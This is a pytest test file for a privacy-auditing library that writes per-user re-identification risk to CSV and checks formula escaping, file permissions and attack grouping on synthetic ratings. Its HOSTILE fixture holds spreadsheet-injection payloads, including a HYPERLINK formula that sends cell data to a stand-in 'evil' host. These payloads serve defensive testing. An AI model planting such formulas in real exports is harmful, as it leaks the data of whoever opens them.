"""The risk of each user as a file: private, harmless in a spreadsheet, and read back."""

import csv
import math
import stat
from dataclasses import replace

import numpy as np
import pytest

from error_assertions import raises
from recveil.attacks import Adversary, AttackTarget, attack_release
from recveil.auditing import Risk, read_risk, write_risk
from recveil.datasets import make_ratings
from recveil.methods import PredictiveAnonymizer

HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "ann"]


@pytest.fixture
def written(tmp_path):
    found = np.linspace(0, 1, len(HOSTILE))
    found[-1] = math.nan
    adversary = np.array(["likes"] * 7 + [None], dtype=object)
    write_risk(np.array(HOSTILE, dtype=object), Risk(found, adversary, 3), tmp_path / "risk.csv")
    return tmp_path / "risk.csv"


def test_no_cell_is_a_formula(written):
    with written.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert len(rows) == len(HOSTILE) + 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(tuple("=+-@\t\r"))


def test_it_is_read_back_the_same(written):
    found = read_risk(written)
    assert list(found) == HOSTILE
    assert list(found.values())[:-1] == np.linspace(0, 1, len(HOSTILE)).tolist()[:-1]
    assert math.isnan(found["ann"])


def test_numbers_stay_numbers(tmp_path):
    risk = Risk(np.array([0.5]), np.array(["likes"], dtype=object), 2)
    write_risk(np.array([-5]), risk, tmp_path / "risk.csv")
    assert (tmp_path / "risk.csv").read_text().splitlines()[1].startswith("-5,0.5,likes,0.0")


def test_membership_is_added_where_it_was_measured(tmp_path):
    risk = Risk(np.array([0.5, 1.0]), np.array(["likes"] * 2, dtype=object), 2)
    auc, control = np.array([0.875, math.nan]), np.array([0.5, math.nan])
    users = np.array(["ann", "ben"], dtype=object)
    ends = np.array([[0.75, math.nan], [1.0, math.nan]])
    risk = replace(risk, membership=auc, control=control, ends=ends, shadows="16 of sparse rows")
    write_risk(users, risk, tmp_path / "risk.csv")
    with (tmp_path / "risk.csv").open() as file:
        header, *rows = csv.reader(file)
    assert header[:6] == ["user_id", "found", "adversary", "membership", "control", "shadows"]
    assert header[6:] == ["found_low", "found_high", "membership_low", "membership_high"]
    assert [row[:6] for row in rows] == [
        ["ann", "0.5", "likes", "0.875", "0.5", "16 of sparse rows"],
        ["ben", "1.0", "likes", "", "", "16 of sparse rows"],
    ]
    # Wilson's interval of 2 draws of knowledge, and that of the area
    ends = [round(float(each), 4) for each in rows[0][6:]]
    assert ends == [0.0945, 0.9055, 0.75, 1.0]
    assert [round(float(each), 4) for each in rows[1][6:8]] == [0.3424, 1.0]
    assert rows[1][8:] == ["", ""]
    assert read_risk(tmp_path / "risk.csv") == {"ann": 0.5, "ben": 1.0}
    found = read_risk(tmp_path / "risk.csv", "membership")
    assert found["ann"] == 0.875
    assert math.isnan(found["ben"])  # who was not scored is not safe


def test_a_file_of_an_earlier_version_is_read(tmp_path):
    (tmp_path / "risk.csv").write_text(
        "user_id,found,adversary,membership,control,shadows\nann,0.5,likes,0.9,0.5,16 of x\n"
    )
    assert read_risk(tmp_path / "risk.csv", "membership") == {"ann": 0.9}


def test_its_owner_alone_reads_it_whatever_stood_there(written):
    written.chmod(0o644)
    risk = Risk(np.array([0.5]), np.array(["likes"], dtype=object), 2)
    write_risk(np.array([1]), risk, written)
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert [path.name for path in written.parent.iterdir()] == ["risk.csv"]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"user,k\n1,2\n",
        b"user_id,found,adversary\n1,high,likes\n",
        b"user_id,found,adversary,membership,control\n1,1,likes\n",
        b"user_id,found,adversary\n1,1,likes\n1,1,likes\n",
        b"\xff\xfe",
    ],
)
def test_what_is_no_such_file_is_refused(tmp_path, content):
    (tmp_path / "risk.csv").write_bytes(content)
    with raises("input.damaged") as caught:
        read_risk(tmp_path / "risk.csv")
    assert "risk.csv" in str(caught.value)


def test_the_groups_of_a_release_sum_to_all_targets():
    ratings = make_ratings(n_users=120, n_items=60, n_ratings=3_000, seed=1)
    release = PredictiveAnonymizer(k=5, homogenize="simple", seed=1).anonymize(ratings)
    table = AttackTarget.from_release(release, ratings)
    found = attack_release(ratings, table, Adversary(known=8), np.arange(120))
    groups = found.by_user_count
    assert [group.name for group in groups] == [
        "newcomers",
        "second quarter",
        "third quarter",
        "heavy users",
    ]
    assert sum(group.figure.trials for group in groups) == 120
    hits = sum(group.figure.rate * group.figure.trials for group in groups)
    assert hits == pytest.approx(found.reidentified.rate * 120)
    # A newcomer with fewer than eight ratings is skipped, and counts as not re-identified.
    fewest = ratings.activity[ratings.activity <= groups[0].highest]
    assert groups[0].figure.trials == fewest.size
    assert groups[0].figure.rate <= (fewest >= 8).mean() / 5
